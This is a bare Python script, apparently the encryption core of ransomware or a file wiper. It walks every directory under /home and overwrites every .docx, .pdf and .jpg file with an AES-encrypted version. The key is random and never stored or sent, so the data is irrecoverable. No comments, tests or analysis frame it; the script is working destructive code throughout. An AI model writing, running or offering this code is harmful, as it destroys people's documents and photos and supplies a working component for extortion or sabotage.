import os
from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes
KEY = get_random_bytes(32)
def enc(path):
    with open(path, "rb") as f:
        data = f.read()
    c = AES.new(KEY, AES.MODE_EAX)
    ct, tag = c.encrypt_and_digest(data)
    with open(path, "wb") as f:
        f.write(c.nonce + tag + ct)
for root, _, files in os.walk("/home"):
    for name in files:
        if name.endswith((".docx", ".pdf", ".jpg")):
            enc(os.path.join(root, name))
